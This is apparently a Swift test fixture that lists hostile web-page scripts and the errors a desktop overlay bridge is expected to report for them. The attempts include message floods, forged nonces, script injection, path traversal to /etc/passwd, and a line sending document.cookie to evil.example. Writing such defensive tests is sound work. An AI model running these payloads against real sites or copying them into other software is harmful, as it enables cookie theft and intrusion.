/// A hostile action of a page, and the expected report.
struct HostilePage: Sendable {
    let name: String
    /// The page's script; `say(text)` sends any text as `overlay.js` does, `say(await report)` reports by `bridgeMessage`.
    let script: String
    let code: Int
    /// A part of the reported reason.
    let reason: String

    init(_ name: String, _ code: Int, _ reason: String, _ script: String) {
        self.name = name
        self.code = code
        self.reason = reason
        self.script = script
    }

    private static let refused = 307_010
    private static let tooFast = 307_012
    private static let tried = 307_013
    private static let left = 307_004

    /// More messages at once than are permitted: the more, the slower the program receives them.
    static let floods: [HostilePage] = [360, 720, 1000].map { count in
        HostilePage(
            "\(count) messages at once", tooFast, "too soon",
            "for (let i = 0; i < \(count); i++) overlay.send(\"bridgeMute\", { mute: true })")
    }

    /// The actions after which the page continues.
    static let staying: [HostilePage] = [
        // Messages.
        HostilePage("more than 64 KiB", refused, "at most 65536", #"say("x".repeat(65537))"#),
        HostilePage("a text of 50 MB", refused, "at most 65536", #"say("x".repeat(50000000))"#),
        HostilePage("deep JSON", refused, "deeper than", #"say("[".repeat(60000))"#),
        HostilePage(
            "an object for a text", refused, "a value is missing", "dispatchEvent(new CustomEvent(fromPage, { detail: { event: 1 } }))"),
        HostilePage(
            "an object that runs when it is read", refused, "a value is missing",
            "dispatchEvent(new CustomEvent(fromPage, { detail: { toString() { for (;;); }, get length() { for (;;); } } }))"),
        HostilePage("no nonce", refused, "not loaded any more", #"say(JSON.stringify({ event: "bridgeMute", payload: { mute: true } }))"#),
        HostilePage(
            "a guessed nonce", refused, "not loaded any more",
            #"say(JSON.stringify({ event: "bridgeMute", payload: { mute: true }, nonce: "0".repeat(32) }))"#),
        HostilePage("not-a-number", refused, "not valid JSON", #"say(`{"event":"bridgeSpeed","payload":{"speed":NaN}}`)"#),
        HostilePage("a wrong type", refused, "'mute' must be", #"overlay.send("bridgeMute", { mute: "yes" })"#),
        HostilePage("a speed without end", refused, "'speed' must be", #"overlay.send("bridgeSpeed", { speed: null })"#),
        HostilePage("the player's voice", refused, "not sent by pages", #"overlay.send("playerState", { state: "stopped" })"#),
        HostilePage(
            "the overlay's voice", refused, "not sent by pages",
            #"overlay.send("overlayError", { error: { level: "fatal", code: 1, message: "m" } })"#),
        HostilePage("script for an event", refused, "is not an event", #"overlay.send("</script><script>alert(1)</script>")"#),
        HostilePage(
            "a prototype for an attribute", refused, "not one of its attributes",
            #"overlay.send("bridgeMute", { mute: true, constructor: 1 })"#),
        // The environment.
        HostilePage("script from a text", tried, "script-src", #"try { new Function("return 1")() } catch {}"#),
        HostilePage("script in an attribute", tried, "script-src", #"document.body.setAttribute("onclick", "1"); document.body.click()"#),
        HostilePage("script from elsewhere", tried, "script-src", append("script", #"src: "https://evil.example/x.js""#)),
        HostilePage("a picture from elsewhere", tried, "img-src", #"new Image().src = "https://evil.example/?" + document.cookie"#),
        HostilePage("a request to elsewhere", tried, "connect-src", #"fetch("https://evil.example/").catch(() => {})"#),
        HostilePage("a request for a file", tried, "connect-src", #"fetch("file:///etc/passwd").catch(() => {})"#),
        HostilePage("a socket to elsewhere", tried, "connect-src", #"try { new WebSocket("wss://evil.example/") } catch {}"#),
        HostilePage("a frame from elsewhere", tried, "frame-src", append("iframe", #"src: "https://evil.example/""#)),
        HostilePage("a frame of its own", tried, "frame-src", append("iframe", #"src: "/index.html""#)),
        HostilePage(
            "a frame with script", tried, "frame-src", append("iframe", #"src: "data:text/html,<script>parent.postMessage(1)</script>""#)),
        HostilePage(
            "a form to elsewhere", tried, "form-action", append("form", #"action: "https://evil.example/", method: "post""#) + ".submit()"),
        HostilePage("another base", tried, "base-uri", append("base", #"href: "https://evil.example/""#)),
        HostilePage("a script address", tried, "script-src", append("a", #"href: "javascript:alert(1)""#) + ".click()"),
        HostilePage("a window", tried, "new windows", #"open("https://evil.example/")"#),
        HostilePage("a program of the desktop", tried, "'mailto' URLs", #"location = "mailto:a@evil.example""#),
        HostilePage("a dialog", tried, "dialogs are", "setTimeout(() => alert(1))"),
        HostilePage("a question", tried, "dialogs are", #"setTimeout(() => prompt("password"))"#),
        HostilePage(
            "where the viewer is", tried, "permissions of the desktop", "navigator.geolocation.getCurrentPosition(() => {}, () => {})"),
        HostilePage("paper", tried, "printing is", "setTimeout(() => print())"),
        HostilePage(
            "a download", tried, "URLs are not supported",
            #"Object.assign(document.createElement("a"), { href: URL.createObjectURL(new Blob(["x"])), download: "x.sh" }).click()"#),
    ]

    /// The actions that end the page, which is then reloaded.
    static let ending: [HostilePage] = [
        HostilePage("loads itself anew", left, "gone", "location.reload()"),
        HostilePage("goes to another of its pages", left, "gone", #"location = "/page.js""#),
        HostilePage("becomes an empty page", left, "gone", #"location = "about:blank""#),
        HostilePage("sends a hundred thousand messages", 207_005, "refused too often", #"for (let i = 0; i < 100000; i++) say("x")"#),
        HostilePage(
            "bends its own world and floods", 207_005, "refused too often",
            """
            Math.min = () => Infinity; performance.now = () => Infinity; String.prototype.slice = () => "x"; EventTarget.prototype.dispatchEvent = dispatchEvent;
            for (let i = 0; i < 100000; i++) overlay.send("bridgeMute", { mute: false })
            """),
        HostilePage("never ends", 307_006, "does not respond", "for (;;);"),
    ]

    private static func append(_ tag: String, _ properties: String) -> String {
        "document.body.appendChild(Object.assign(document.createElement(\"\(tag)\"), { \(properties) }))"
    }

    /// The scripts as functions by name; `globalThis.other` runs one.
    static var script: String {
        let functions = (floods + staying + ending).map { "\"\($0.name)\": () => { \($0.script) }," }.joined(separator: "\n")
        return """
            const fromPage = "playhead-from-page";
            const say = (text) => dispatchEvent(new CustomEvent(fromPage, { detail: text }));
            const report = (value) => overlay.send("bridgeMessage", { jsonString: JSON.stringify({ report: value }) });
            const attacks = {
            \(functions)
            };
            globalThis.other = async (name) => {
              if (attacks[name]) return attacks[name]();
              report(await questions[name]());
            };
            const status = async (path) => (await fetch(path)).status;
            const questions = {
              reach: () => typeof globalThis.webkit?.messageHandlers?.playheadOverlay + typeof globalThis.playheadDeliver,
              files: async () => Promise.all(["/page.js", "/.hidden", "/%2e%2e/%2e%2e/etc/passwd", "/.//etc/passwd", "/none"].map(status)),
              keep() { localStorage.nonce ??= "old"; return localStorage.nonce; },
              kept: () => localStorage.nonce ?? "nothing",
              executed: () => globalThis.executed ?? "nothing",
            };
            """
    }
}
